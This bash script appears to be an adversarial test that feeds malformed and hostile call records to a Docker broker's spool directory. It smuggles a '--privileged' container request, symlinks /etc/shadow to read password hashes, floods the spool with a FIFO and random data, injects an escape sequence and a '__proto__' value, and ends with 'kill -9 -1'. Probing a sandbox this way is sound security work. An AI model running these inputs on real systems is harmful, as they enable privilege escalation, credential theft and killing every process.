#!/bin/bash
printf '@call\0docker\0/\0999999999\0run\0' > /hortus/run/log/call.1
printf '@call\0docker\0/x\0%s\0run\0--privileged\0evil\0@end\0%s\0' 3 99999999999 > /hortus/run/log/call.2
ln -s /etc/shadow /hortus/run/log/call.3
mkfifo /hortus/run/log/call.4 2>/dev/null
head -c 1000000 /dev/urandom > /hortus/run/log/call.5
/usr/bin/docker run --rm curious 2>/dev/null || docker run --rm curious
env -i /usr/bin/env docker run --rm -e __proto__=1 "$(printf 'evil\033]0;x\007')" 2>/dev/null
PATH=/usr/bin:/bin
kill -9 -1
